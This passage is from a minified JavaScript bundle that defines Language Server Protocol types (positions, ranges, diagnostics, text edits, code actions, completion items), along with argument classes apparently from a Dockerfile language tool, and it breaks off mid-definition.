"use strict";var bk=Object.create;var tr=Object.defineProperty;var wk=Object.getOwnPropertyDescriptor;var vk=Object.getOwnPropertyNames;var kk=Object.getPrototypeOf,xk=Object.prototype.hasOwnProperty;var D=(n,e)=>()=>{try{return e||n((e={exports:{}}).exports,e),e.exports}catch(t){throw e=0,t}},Rk=(n,e)=>{for(var t in e)tr(n,t,{get:e[t],enumerable:!0})},sf=(n,e,t,s)=>{if(e&&typeof e=="object"||typeof e=="function")for(let i of vk(e))!xk.call(n,i)&&i!==t&&tr(n,i,{get:()=>e[i],enumerable:!(s=wk(e,i))||s.enumerable});return n};var ie=(n,e,t)=>(t=n!=null?bk(kk(n)):{},sf(e||!n||!n.__esModule?tr(t,"default",{value:n,enumerable:!0}):t,n)),Ok=n=>sf(tr({},"__esModule",{value:!0}),n);var zn=D(rr=>{"use strict";Object.defineProperty(rr,"__esModule",{value:!0});rr.Argument=void 0;var ac=class{constructor(e,t){this.value=e,this.range=t}toString(){return this.value}getRange(){return this.range}getValue(){return this.value}isAfter(e){return this.range.end.line<e.line?!1:this.range.start.line>e.line?!0:this.range.start.character>e.character}isBefore(e){return this.range.start.line<e.line?!0:this.range.end.line>e.line?!1:this.range.end.character<e.character}};rr.Argument=ac});var lc=D(or=>{"use strict";Object.defineProperty(or,"__esModule",{value:!0});or.JSONArgument=void 0;var Pk=zn(),cc=class extends Pk.Argument{constructor(e,t,s){super(e,t),this.jsonRange=s}getJSONRange(){return this.jsonRange}getJSONValue(){let e=super.getValue();return e=e.substring(1,e.length-1),e}};or.JSONArgument=cc});var Je=D((mf,ar)=>{(function(n){if(typeof ar=="object"&&typeof ar.exports=="object"){var e=n(require,mf);e!==void 0&&(ar.exports=e)}else typeof define=="function"&&define.amd&&define(["require","exports"],n)})(function(n,e){"use strict";Object.defineProperty(e,"__esModule",{value:!0}),e.TextDocument=e.EOL=e.WorkspaceFolder=e.InlineCompletionContext=e.SelectedCompletionInfo=e.InlineCompletionTriggerKind=e.InlineCompletionList=e.InlineCompletionItem=e.StringValue=e.InlayHint=e.InlayHintLabelPart=e.InlayHintKind=e.InlineValueContext=e.InlineValueEvaluatableExpression=e.InlineValueVariableLookup=e.InlineValueText=e.SemanticTokens=e.SemanticTokenModifiers=e.SemanticTokenTypes=e.SelectionRange=e.DocumentLink=e.FormattingOptions=e.CodeLens=e.CodeAction=e.CodeActionTag=e.CodeActionContext=e.CodeActionTriggerKind=e.CodeActionKind=e.DocumentSymbol=e.WorkspaceSymbol=e.SymbolInformation=e.SymbolTag=e.SymbolKind=e.DocumentHighlight=e.DocumentHighlightKind=e.SignatureInformation=e.ParameterInformation=e.Hover=e.MarkedString=e.CompletionList=e.CompletionItem=e.CompletionItemLabelDetails=e.ApplyKind=e.InsertTextMode=e.InsertReplaceEdit=e.CompletionItemTag=e.InsertTextFormat=e.CompletionItemKind=e.MarkupContent=e.MarkupKind=e.TextDocumentItem=e.LanguageKind=e.OptionalVersionedTextDocumentIdentifier=e.VersionedTextDocumentIdentifier=e.TextDocumentIdentifier=e.WorkspaceChange=e.SnippetTextEdit=e.WorkspaceEdit=e.DeleteFile=e.RenameFile=e.CreateFile=e.TextDocumentEdit=e.AnnotatedTextEdit=e.ChangeAnnotationIdentifier=e.ChangeAnnotation=e.TextEdit=e.Command=e.Diagnostic=e.CodeDescription=e.DiagnosticTag=e.DiagnosticSeverity=e.DiagnosticRelatedInformation=e.FoldingRange=e.FoldingRangeKind=e.ColorPresentation=e.ColorInformation=e.Color=e.LocationLink=e.Location=e.Range=e.Position=e.uinteger=e.integer=e.URI=e.DocumentUri=void 0;var t;(function(y){function x(R){return typeof R=="string"}y.is=x})(t||(e.DocumentUri=t={}));var s;(function(y){function x(R){return typeof R=="string"}y.is=x})(s||(e.URI=s={}));var i;(function(y){y.MIN_VALUE=-2147483648,y.MAX_VALUE=2147483647;function x(R){return typeof R=="number"&&y.MIN_VALUE<=R&&R<=y.MAX_VALUE}y.is=x})(i||(e.integer=i={}));var r;(function(y){y.MIN_VALUE=0,y.MAX_VALUE=2147483647;function x(R){return typeof R=="number"&&y.MIN_VALUE<=R&&R<=y.MAX_VALUE}y.is=x})(r||(e.uinteger=r={}));var o;(function(y){function x(k,b){return k===Number.MAX_VALUE&&(k=r.MAX_VALUE),b===Number.MAX_VALUE&&(b=r.MAX_VALUE),{line:k,character:b}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&M.uinteger(b.line)&&M.uinteger(b.character)}y.is=R})(o||(e.Position=o={}));var a;(function(y){function x(k,b,N,$){if(M.uinteger(k)&&M.uinteger(b)&&M.uinteger(N)&&M.uinteger($))return{start:o.create(k,b),end:o.create(N,$)};if(o.is(k)&&o.is(b))return{start:k,end:b};throw new Error("Range#create called with invalid arguments[".concat(k,", ").concat(b,", ").concat(N,", ").concat($,"]"))}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&o.is(b.start)&&o.is(b.end)}y.is=R})(a||(e.Range=a={}));var c;(function(y){function x(k,b){return{uri:k,range:b}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&a.is(b.range)&&(M.string(b.uri)||M.undefined(b.uri))}y.is=R})(c||(e.Location=c={}));var l;(function(y){function x(k,b,N,$){return{targetUri:k,targetRange:b,targetSelectionRange:N,originSelectionRange:$}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&a.is(b.targetRange)&&M.string(b.targetUri)&&a.is(b.targetSelectionRange)&&(a.is(b.originSelectionRange)||M.undefined(b.originSelectionRange))}y.is=R})(l||(e.LocationLink=l={}));var u;(function(y){function x(k,b,N,$){return{red:k,green:b,blue:N,alpha:$}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&M.numberRange(b.red,0,1)&&M.numberRange(b.green,0,1)&&M.numberRange(b.blue,0,1)&&M.numberRange(b.alpha,0,1)}y.is=R})(u||(e.Color=u={}));var p;(function(y){function x(k,b){return{range:k,color:b}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&a.is(b.range)&&u.is(b.color)}y.is=R})(p||(e.ColorInformation=p={}));var d;(function(y){function x(k,b,N){return{label:k,textEdit:b,additionalTextEdits:N}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&M.string(b.label)&&(M.undefined(b.textEdit)||A.is(b.textEdit))&&(M.undefined(b.additionalTextEdits)||M.typedArray(b.additionalTextEdits,A.is))}y.is=R})(d||(e.ColorPresentation=d={}));var f;(function(y){y.Comment="comment",y.Imports="imports",y.Region="region"})(f||(e.FoldingRangeKind=f={}));var h;(function(y){function x(k,b,N,$,U,ke){var ge={startLine:k,endLine:b};return M.defined(N)&&(ge.startCharacter=N),M.defined($)&&(ge.endCharacter=$),M.defined(U)&&(ge.kind=U),M.defined(ke)&&(ge.collapsedText=ke),ge}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&M.uinteger(b.startLine)&&M.uinteger(b.endLine)&&(M.undefined(b.startCharacter)||M.uinteger(b.startCharacter))&&(M.undefined(b.endCharacter)||M.uinteger(b.endCharacter))&&(M.undefined(b.kind)||M.string(b.kind))}y.is=R})(h||(e.FoldingRange=h={}));var m;(function(y){function x(k,b){return{location:k,message:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&c.is(b.location)&&M.string(b.message)}y.is=R})(m||(e.DiagnosticRelatedInformation=m={}));var g;(function(y){y.Error=1,y.Warning=2,y.Information=3,y.Hint=4})(g||(e.DiagnosticSeverity=g={}));var w;(function(y){y.Unnecessary=1,y.Deprecated=2})(w||(e.DiagnosticTag=w={}));var v;(function(y){function x(R){var k=R;return M.objectLiteral(k)&&M.string(k.href)}y.is=x})(v||(e.CodeDescription=v={}));var O;(function(y){function x(N,$,U,ke,ge,Ue){var Ee={range:N,message:$};return M.defined(U)&&(Ee.severity=U),M.defined(ke)&&(Ee.code=ke),M.defined(ge)&&(Ee.source=ge),M.defined(Ue)&&(Ee.relatedInformation=Ue),Ee}y.create=x;function R(N){var $,U=N;return M.defined(U)&&a.is(U.range)&&(M.string(U.message)||mn.is(U.message))&&(M.number(U.severity)||M.undefined(U.severity))&&(M.integer(U.code)||M.string(U.code)||M.undefined(U.code))&&(M.undefined(U.codeDescription)||M.string(($=U.codeDescription)===null||$===void 0?void 0:$.href))&&(M.string(U.source)||M.undefined(U.source))&&(M.undefined(U.relatedInformation)||M.typedArray(U.relatedInformation,m.is))}y.is=R;function k(N){return M.string(N.message)}y.is3_17=k;function b(N){if(M.string(N.message))return N.message;if(mn.is(N.message))return N.message.value;throw new Error("Unknown message type ".concat(typeof N.message))}y.getMessageString=b})(O||(e.Diagnostic=O={}));var S;(function(y){function x(k,b){for(var N=[],$=2;$<arguments.length;$++)N[$-2]=arguments[$];var U={title:k,command:b};return M.defined(N)&&N.length>0&&(U.arguments=N),U}y.create=x;function R(k){var b=k;return M.defined(b)&&M.string(b.title)&&(b.tooltip===void 0||M.string(b.tooltip))&&M.string(b.command)}y.is=R})(S||(e.Command=S={}));var A;(function(y){function x(N,$){return{range:N,newText:$}}y.replace=x;function R(N,$){return{range:{start:N,end:N},newText:$}}y.insert=R;function k(N){return{range:N,newText:""}}y.del=k;function b(N){var $=N;return M.objectLiteral($)&&M.string($.newText)&&a.is($.range)}y.is=b})(A||(e.TextEdit=A={}));var C;(function(y){function x(k,b,N){var $={label:k};return b!==void 0&&($.needsConfirmation=b),N!==void 0&&($.description=N),$}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&M.string(b.label)&&(M.boolean(b.needsConfirmation)||b.needsConfirmation===void 0)&&(M.string(b.description)||b.description===void 0)}y.is=R})(C||(e.ChangeAnnotation=C={}));var E;(function(y){function x(R){var k=R;return M.string(k)}y.is=x})(E||(e.ChangeAnnotationIdentifier=E={}));var _;(function(y){function x(N,$,U){return{range:N,newText:$,annotationId:U}}y.replace=x;function R(N,$,U){return{range:{start:N,end:N},newText:$,annotationId:U}}y.insert=R;function k(N,$){return{range:N,newText:"",annotationId:$}}y.del=k;function b(N){var $=N;return A.is($)&&(C.is($.annotationId)||E.is($.annotationId))}y.is=b})(_||(e.AnnotatedTextEdit=_={}));var q;(function(y){function x(k,b){return{textDocument:k,edits:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&Xi.is(b.textDocument)&&Array.isArray(b.edits)}y.is=R})(q||(e.TextDocumentEdit=q={}));var me;(function(y){function x(k,b,N){var $={kind:"create",uri:k};return b!==void 0&&(b.overwrite!==void 0||b.ignoreIfExists!==void 0)&&($.options=b),N!==void 0&&($.annotationId=N),$}y.create=x;function R(k){var b=k;return b&&b.kind==="create"&&M.string(b.uri)&&(b.options===void 0||(b.options.overwrite===void 0||M.boolean(b.options.overwrite))&&(b.options.ignoreIfExists===void 0||M.boolean(b.options.ignoreIfExists)))&&(b.annotationId===void 0||E.is(b.annotationId))}y.is=R})(me||(e.CreateFile=me={}));var we;(function(y){function x(k,b,N,$){var U={kind:"rename",oldUri:k,newUri:b};return N!==void 0&&(N.overwrite!==void 0||N.ignoreIfExists!==void 0)&&(U.options=N),$!==void 0&&(U.annotationId=$),U}y.create=x;function R(k){var b=k;return b&&b.kind==="rename"&&M.string(b.oldUri)&&M.string(b.newUri)&&(b.options===void 0||(b.options.overwrite===void 0||M.boolean(b.options.overwrite))&&(b.options.ignoreIfExists===void 0||M.boolean(b.options.ignoreIfExists)))&&(b.annotationId===void 0||E.is(b.annotationId))}y.is=R})(we||(e.RenameFile=we={}));var ue;(function(y){function x(k,b,N){var $={kind:"delete",uri:k};return b!==void 0&&(b.recursive!==void 0||b.ignoreIfNotExists!==void 0)&&($.options=b),N!==void 0&&($.annotationId=N),$}y.create=x;function R(k){var b=k;return b&&b.kind==="delete"&&M.string(b.uri)&&(b.options===void 0||(b.options.recursive===void 0||M.boolean(b.options.recursive))&&(b.options.ignoreIfNotExists===void 0||M.boolean(b.options.ignoreIfNotExists)))&&(b.annotationId===void 0||E.is(b.annotationId))}y.is=R})(ue||(e.DeleteFile=ue={}));var xt;(function(y){function x(R){var k=R;return k&&(k.changes!==void 0||k.documentChanges!==void 0)&&(k.documentChanges===void 0||k.documentChanges.every(function(b){return M.string(b.kind)?me.is(b)||we.is(b)||ue.is(b):q.is(b)}))}y.is=x})(xt||(e.WorkspaceEdit=xt={}));var fn=(function(){function y(x,R){this.edits=x,this.changeAnnotations=R}return y.prototype.insert=function(x,R,k){var b,N;if(k===void 0?b=A.insert(x,R):E.is(k)?(N=k,b=_.insert(x,R,k)):(this.assertChangeAnnotations(this.changeAnnotations),N=this.changeAnnotations.manage(k),b=_.insert(x,R,N)),this.edits.push(b),N!==void 0)return N},y.prototype.replace=function(x,R,k){var b,N;if(k===void 0?b=A.replace(x,R):E.is(k)?(N=k,b=_.replace(x,R,k)):(this.assertChangeAnnotations(this.changeAnnotations),N=this.changeAnnotations.manage(k),b=_.replace(x,R,N)),this.edits.push(b),N!==void 0)return N},y.prototype.delete=function(x,R){var k,b;if(R===void 0?k=A.del(x):E.is(R)?(b=R,k=_.del(x,R)):(this.assertChangeAnnotations(this.changeAnnotations),b=this.changeAnnotations.manage(R),k=_.del(x,b)),this.edits.push(k),b!==void 0)return b},y.prototype.add=function(x){this.edits.push(x)},y.prototype.all=function(){return this.edits},y.prototype.clear=function(){this.edits.splice(0,this.edits.length)},y.prototype.assertChangeAnnotations=function(x){if(x===void 0)throw new Error("Text edit change is not configured to manage change annotations.")},y})(),B;(function(y){function x(R){var k=R;return M.objectLiteral(k)&&a.is(k.range)&&tc.isSnippet(k.snippet)&&(k.annotationId===void 0||C.is(k.annotationId)||E.is(k.annotationId))}y.is=x})(B||(e.SnippetTextEdit=B={}));var ve=(function(){function y(x){this._annotations=x===void 0?Object.create(null):x,this._counter=0,this._size=0}return y.prototype.all=function(){return this._annotations},Object.defineProperty(y.prototype,"size",{get:function(){return this._size},enumerable:!1,configurable:!0}),y.prototype.manage=function(x,R){var k;if(E.is(x)?k=x:(k=this.nextId(),R=x),this._annotations[k]!==void 0)throw new Error("Id ".concat(k," is already in use."));if(R===void 0)throw new Error("No annotation provided for id ".concat(k));return this._annotations[k]=R,this._size++,k},y.prototype.nextId=function(){return this._counter++,this._counter.toString()},y})(),dt=(function(){function y(x){var R=this;this._textEditChanges=Object.create(null),x!==void 0?(this._workspaceEdit=x,x.documentChanges?(this._changeAnnotations=new ve(x.changeAnnotations),x.changeAnnotations=this._changeAnnotations.all(),x.documentChanges.forEach(function(k){if(q.is(k)){var b=new fn(k.edits,R._changeAnnotations);R._textEditChanges[k.textDocument.uri]=b}})):x.changes&&Object.keys(x.changes).forEach(function(k){var b=new fn(x.changes[k]);R._textEditChanges[k]=b})):this._workspaceEdit={}}return Object.defineProperty(y.prototype,"edit",{get:function(){return this.initDocumentChanges(),this._changeAnnotations!==void 0&&(this._changeAnnotations.size===0?this._workspaceEdit.changeAnnotations=void 0:this._workspaceEdit.changeAnnotations=this._changeAnnotations.all()),this._workspaceEdit},enumerable:!1,configurable:!0}),y.prototype.getTextEditChange=function(x){if(Xi.is(x)){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");var R={uri:x.uri,version:x.version},k=this._textEditChanges[R.uri];if(!k){var b=[],N={textDocument:R,edits:b};this._workspaceEdit.documentChanges.push(N),k=new fn(b,this._changeAnnotations),this._textEditChanges[R.uri]=k}return k}else{if(this.initChanges(),this._workspaceEdit.changes===void 0)throw new Error("Workspace edit is not configured for normal text edit changes.");var k=this._textEditChanges[x];if(!k){var b=[];this._workspaceEdit.changes[x]=b,k=new fn(b),this._textEditChanges[x]=k}return k}},y.prototype.initDocumentChanges=function(){this._workspaceEdit.documentChanges===void 0&&this._workspaceEdit.changes===void 0&&(this._changeAnnotations=new ve,this._workspaceEdit.documentChanges=[],this._workspaceEdit.changeAnnotations=this._changeAnnotations.all())},y.prototype.initChanges=function(){this._workspaceEdit.documentChanges===void 0&&this._workspaceEdit.changes===void 0&&(this._workspaceEdit.changes=Object.create(null))},y.prototype.createFile=function(x,R,k){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");var b;C.is(R)||E.is(R)?b=R:k=R;var N,$;if(b===void 0?N=me.create(x,k):($=E.is(b)?b:this._changeAnnotations.manage(b),N=me.create(x,k,$)),this._workspaceEdit.documentChanges.push(N),$!==void 0)return $},y.prototype.renameFile=function(x,R,k,b){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");var N;C.is(k)||E.is(k)?N=k:b=k;var $,U;if(N===void 0?$=we.create(x,R,b):(U=E.is(N)?N:this._changeAnnotations.manage(N),$=we.create(x,R,b,U)),this._workspaceEdit.documentChanges.push($),U!==void 0)return U},y.prototype.deleteFile=function(x,R,k){if(this.initDocumentChanges(),this._workspaceEdit.documentChanges===void 0)throw new Error("Workspace edit is not configured for document changes.");var b;C.is(R)||E.is(R)?b=R:k=R;var N,$;if(b===void 0?N=ue.create(x,k):($=E.is(b)?b:this._changeAnnotations.manage(b),N=ue.create(x,k,$)),this._workspaceEdit.documentChanges.push(N),$!==void 0)return $},y})();e.WorkspaceChange=dt;var hn;(function(y){function x(k){return{uri:k}}y.create=x;function R(k){var b=k;return M.defined(b)&&M.string(b.uri)}y.is=R})(hn||(e.TextDocumentIdentifier=hn={}));var dd;(function(y){function x(k,b){return{uri:k,version:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&M.string(b.uri)&&M.integer(b.version)}y.is=R})(dd||(e.VersionedTextDocumentIdentifier=dd={}));var Xi;(function(y){function x(k,b){return{uri:k,version:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&M.string(b.uri)&&(b.version===null||M.integer(b.version))}y.is=R})(Xi||(e.OptionalVersionedTextDocumentIdentifier=Xi={}));var fd;(function(y){y.ABAP="abap",y.WindowsBat="bat",y.BibTeX="bibtex",y.Clojure="clojure",y.Coffeescript="coffeescript",y.C="c",y.CPP="cpp",y.CSharp="csharp",y.CSS="css",y.D="d",y.Delphi="pascal",y.Diff="diff",y.Dart="dart",y.Dockerfile="dockerfile",y.Elixir="elixir",y.Erlang="erlang",y.FSharp="fsharp",y.GitCommit="git-commit",y.GitRebase="git-rebase",y.Go="go",y.Groovy="groovy",y.Handlebars="handlebars",y.Haskell="haskell",y.HTML="html",y.Ini="ini",y.Java="java",y.JavaScript="javascript",y.JavaScriptReact="javascriptreact",y.JSON="json",y.LaTeX="latex",y.Less="less",y.Lua="lua",y.Makefile="makefile",y.Markdown="markdown",y.ObjectiveC="objective-c",y.ObjectiveCPP="objective-cpp",y.Pascal="pascal",y.Perl="perl",y.Perl6="perl6",y.PHP="php",y.Plaintext="plaintext",y.Powershell="powershell",y.Pug="jade",y.Python="python",y.R="r",y.Razor="razor",y.Ruby="ruby",y.Rust="rust",y.SCSS="scss",y.SASS="sass",y.Scala="scala",y.ShaderLab="shaderlab",y.ShellScript="shellscript",y.SQL="sql",y.Swift="swift",y.TypeScript="typescript",y.TypeScriptReact="typescriptreact",y.TeX="tex",y.VisualBasic="vb",y.XML="xml",y.XSL="xsl",y.YAML="yaml"})(fd||(e.LanguageKind=fd={}));var hd;(function(y){function x(k,b,N,$){return{uri:k,languageId:b,version:N,text:$}}y.create=x;function R(k){var b=k;return M.defined(b)&&M.string(b.uri)&&M.string(b.languageId)&&M.integer(b.version)&&M.string(b.text)}y.is=R})(hd||(e.TextDocumentItem=hd={}));var Xa;(function(y){y.PlainText="plaintext",y.Markdown="markdown";function x(R){var k=R;return k===y.PlainText||k===y.Markdown}y.is=x})(Xa||(e.MarkupKind=Xa={}));var mn;(function(y){function x(R){var k=R;return M.objectLiteral(R)&&Xa.is(k.kind)&&M.string(k.value)}y.is=x})(mn||(e.MarkupContent=mn={}));var md;(function(y){y.Text=1,y.Method=2,y.Function=3,y.Constructor=4,y.Field=5,y.Variable=6,y.Class=7,y.Interface=8,y.Module=9,y.Property=10,y.Unit=11,y.Value=12,y.Enum=13,y.Keyword=14,y.Snippet=15,y.Color=16,y.File=17,y.Reference=18,y.Folder=19,y.EnumMember=20,y.Constant=21,y.Struct=22,y.Event=23,y.Operator=24,y.TypeParameter=25})(md||(e.CompletionItemKind=md={}));var gd;(function(y){y.PlainText=1,y.Snippet=2})(gd||(e.InsertTextFormat=gd={}));var yd;(function(y){y.Deprecated=1})(yd||(e.CompletionItemTag=yd={}));var bd;(function(y){function x(k,b,N){return{newText:k,insert:b,replace:N}}y.create=x;function R(k){var b=k;return b&&M.string(b.newText)&&a.is(b.insert)&&a.is(b.replace)}y.is=R})(bd||(e.InsertReplaceEdit=bd={}));var wd;(function(y){y.asIs=1,y.adjustIndentation=2})(wd||(e.InsertTextMode=wd={}));var vd;(function(y){y.Replace=1,y.Merge=2})(vd||(e.ApplyKind=vd={}));var kd;(function(y){function x(R){var k=R;return k&&(M.string(k.detail)||k.detail===void 0)&&(M.string(k.description)||k.description===void 0)}y.is=x})(kd||(e.CompletionItemLabelDetails=kd={}));var xd;(function(y){function x(R){return{label:R}}y.create=x})(xd||(e.CompletionItem=xd={}));var Rd;(function(y){function x(R,k){return{items:R||[],isIncomplete:!!k}}y.create=x})(Rd||(e.CompletionList=Rd={}));var Zi;(function(y){function x(k){return k.replace(/[\\`*_{}[\]()#+\-.!]/g,"\\$&")}y.fromPlainText=x;function R(k){var b=k;return M.string(b)||M.objectLiteral(b)&&M.string(b.language)&&M.string(b.value)}y.is=R})(Zi||(e.MarkedString=Zi={}));var Od;(function(y){function x(R){var k=R;return!!k&&M.objectLiteral(k)&&(mn.is(k.contents)||Zi.is(k.contents)||M.typedArray(k.contents,Zi.is))&&(R.range===void 0||a.is(R.range))}y.is=x})(Od||(e.Hover=Od={}));var Sd;(function(y){function x(R,k){return k?{label:R,documentation:k}:{label:R}}y.create=x})(Sd||(e.ParameterInformation=Sd={}));var Md;(function(y){function x(R,k){for(var b=[],N=2;N<arguments.length;N++)b[N-2]=arguments[N];var $={label:R};return M.defined(k)&&($.documentation=k),M.defined(b)?$.parameters=b:$.parameters=[],$}y.create=x})(Md||(e.SignatureInformation=Md={}));var Ad;(function(y){y.Text=1,y.Read=2,y.Write=3})(Ad||(e.DocumentHighlightKind=Ad={}));var Nd;(function(y){function x(R,k){var b={range:R};return M.number(k)&&(b.kind=k),b}y.create=x})(Nd||(e.DocumentHighlight=Nd={}));var Ed;(function(y){y.File=1,y.Module=2,y.Namespace=3,y.Package=4,y.Class=5,y.Method=6,y.Property=7,y.Field=8,y.Constructor=9,y.Enum=10,y.Interface=11,y.Function=12,y.Variable=13,y.Constant=14,y.String=15,y.Number=16,y.Boolean=17,y.Array=18,y.Object=19,y.Key=20,y.Null=21,y.EnumMember=22,y.Struct=23,y.Event=24,y.Operator=25,y.TypeParameter=26})(Ed||(e.SymbolKind=Ed={}));var _d;(function(y){y.Deprecated=1})(_d||(e.SymbolTag=_d={}));var $d;(function(y){function x(R,k,b,N,$){var U={name:R,kind:k,location:{uri:N,range:b}};return $&&(U.containerName=$),U}y.create=x})($d||(e.SymbolInformation=$d={}));var Cd;(function(y){function x(R,k,b,N){return N!==void 0?{name:R,kind:k,location:{uri:b,range:N}}:{name:R,kind:k,location:{uri:b}}}y.create=x})(Cd||(e.WorkspaceSymbol=Cd={}));var Dd;(function(y){function x(k,b,N,$,U,ke){var ge={name:k,detail:b,kind:N,range:$,selectionRange:U};return ke!==void 0&&(ge.children=ke),ge}y.create=x;function R(k){var b=k;return b&&M.string(b.name)&&M.number(b.kind)&&a.is(b.range)&&a.is(b.selectionRange)&&(b.detail===void 0||M.string(b.detail))&&(b.deprecated===void 0||M.boolean(b.deprecated))&&(b.children===void 0||Array.isArray(b.children))&&(b.tags===void 0||Array.isArray(b.tags))}y.is=R})(Dd||(e.DocumentSymbol=Dd={}));var Fd;(function(y){y.Empty="",y.QuickFix="quickfix",y.Refactor="refactor",y.RefactorExtract="refactor.extract",y.RefactorInline="refactor.inline",y.RefactorMove="refactor.move",y.RefactorRewrite="refactor.rewrite",y.Source="source",y.SourceOrganizeImports="source.organizeImports",y.SourceFixAll="source.fixAll",y.Notebook="notebook"})(Fd||(e.CodeActionKind=Fd={}));var Qi;(function(y){y.Invoked=1,y.Automatic=2})(Qi||(e.CodeActionTriggerKind=Qi={}));var Td;(function(y){function x(k,b,N){var $={diagnostics:k};return b!=null&&($.only=b),N!=null&&($.triggerKind=N),$}y.create=x;function R(k){var b=k;return M.defined(b)&&M.typedArray(b.diagnostics,O.is)&&(b.only===void 0||M.typedArray(b.only,M.string))&&(b.triggerKind===void 0||b.triggerKind===Qi.Invoked||b.triggerKind===Qi.Automatic)}y.is=R})(Td||(e.CodeActionContext=Td={}));var Za;(function(y){y.LLMGenerated=1;function x(R){return M.defined(R)&&R===y.LLMGenerated}y.is=x})(Za||(e.CodeActionTag=Za={}));var Ld;(function(y){function x(k,b,N){var $={title:k},U=!0;return typeof b=="string"?(U=!1,$.kind=b):S.is(b)?$.command=b:$.edit=b,U&&N!==void 0&&($.kind=N),$}y.create=x;function R(k){var b=k;return b&&M.string(b.title)&&(b.diagnostics===void 0||M.typedArray(b.diagnostics,O.is))&&(b.kind===void 0||M.string(b.kind))&&(b.edit!==void 0||b.command!==void 0)&&(b.command===void 0||S.is(b.command))&&(b.isPreferred===void 0||M.boolean(b.isPreferred))&&(b.edit===void 0||xt.is(b.edit))&&(b.tags===void 0||M.typedArray(b.tags,Za.is))}y.is=R})(Ld||(e.CodeAction=Ld={}));var Id;(function(y){function x(k,b){var N={range:k};return M.defined(b)&&(N.data=b),N}y.create=x;function R(k){var b=k;return M.defined(b)&&a.is(b.range)&&(M.undefined(b.command)||S.is(b.command))}y.is=R})(Id||(e.CodeLens=Id={}));var Pd;(function(y){function x(k,b){return{tabSize:k,insertSpaces:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&M.uinteger(b.tabSize)&&M.boolean(b.insertSpaces)}y.is=R})(Pd||(e.FormattingOptions=Pd={}));var jd;(function(y){function x(k,b,N){return{range:k,target:b,data:N}}y.create=x;function R(k){var b=k;return M.defined(b)&&a.is(b.range)&&(M.undefined(b.target)||M.string(b.target))}y.is=R})(jd||(e.DocumentLink=jd={}));var qd;(function(y){function x(k,b){return{range:k,parent:b}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&a.is(b.range)&&(b.parent===void 0||y.is(b.parent))}y.is=R})(qd||(e.SelectionRange=qd={}));var Ud;(function(y){y.namespace="namespace",y.type="type",y.class="class",y.enum="enum",y.interface="interface",y.struct="struct",y.typeParameter="typeParameter",y.parameter="parameter",y.variable="variable",y.property="property",y.enumMember="enumMember",y.event="event",y.function="function",y.method="method",y.macro="macro",y.keyword="keyword",y.modifier="modifier",y.comment="comment",y.string="string",y.number="number",y.regexp="regexp",y.operator="operator",y.decorator="decorator",y.label="label"})(Ud||(e.SemanticTokenTypes=Ud={}));var Hd;(function(y){y.declaration="declaration",y.definition="definition",y.readonly="readonly",y.static="static",y.deprecated="deprecated",y.abstract="abstract",y.async="async",y.modification="modification",y.documentation="documentation",y.defaultLibrary="defaultLibrary"})(Hd||(e.SemanticTokenModifiers=Hd={}));var Yd;(function(y){function x(R){var k=R;return M.objectLiteral(k)&&(k.resultId===void 0||typeof k.resultId=="string")&&Array.isArray(k.data)&&(k.data.length===0||typeof k.data[0]=="number")}y.is=x})(Yd||(e.SemanticTokens=Yd={}));var Wd;(function(y){function x(k,b){return{range:k,text:b}}y.create=x;function R(k){var b=k;return b!=null&&a.is(b.range)&&M.string(b.text)}y.is=R})(Wd||(e.InlineValueText=Wd={}));var Bd;(function(y){function x(k,b,N){return{range:k,variableName:b,caseSensitiveLookup:N}}y.create=x;function R(k){var b=k;return b!=null&&a.is(b.range)&&M.boolean(b.caseSensitiveLookup)&&(M.string(b.variableName)||b.variableName===void 0)}y.is=R})(Bd||(e.InlineValueVariableLookup=Bd={}));var Gd;(function(y){function x(k,b){return{range:k,expression:b}}y.create=x;function R(k){var b=k;return b!=null&&a.is(b.range)&&(M.string(b.expression)||b.expression===void 0)}y.is=R})(Gd||(e.InlineValueEvaluatableExpression=Gd={}));var Vd;(function(y){function x(k,b){return{frameId:k,stoppedLocation:b}}y.create=x;function R(k){var b=k;return M.defined(b)&&a.is(k.stoppedLocation)}y.is=R})(Vd||(e.InlineValueContext=Vd={}));var Qa;(function(y){y.Type=1,y.Parameter=2;function x(R){return R===1||R===2}y.is=x})(Qa||(e.InlayHintKind=Qa={}));var ec;(function(y){function x(k){return{value:k}}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&(b.tooltip===void 0||M.string(b.tooltip)||mn.is(b.tooltip))&&(b.location===void 0||c.is(b.location))&&(b.command===void 0||S.is(b.command))}y.is=R})(ec||(e.InlayHintLabelPart=ec={}));var zd;(function(y){function x(k,b,N){var $={position:k,label:b};return N!==void 0&&($.kind=N),$}y.create=x;function R(k){var b=k;return M.objectLiteral(b)&&o.is(b.position)&&(M.string(b.label)||M.typedArray(b.label,ec.is))&&(b.kind===void 0||Qa.is(b.kind))&&b.textEdits===void 0||M.typedArray(b.textEdits,A.is)&&(b.tooltip===void 0||M.string(b.tooltip)||mn.is(b.tooltip))&&(b.paddingLeft===void 0||M.boolean(b.paddingLeft))&&(b.paddingRight===void 0||M.boolean(b.paddingRight))}y.is=R})(zd||(e.InlayHint=zd={}));var tc;(function(y){function x(k){return{kind:"snippet",value:k}}y.createSnippet=x;function R(k){var b=k;return M.objectLiteral(b)&&b.kind==="snippet"&&M.string(b.value)}y.isSnippet=R})(tc||(e.StringValue=tc={}));var Kd;(function(y){function x(R,k,b,N){return{insertText:R,filterText:k,range:b,command:N}}y.create=x})(Kd||(e.InlineCompletionItem=Kd={}));var Jd;(function(y){function 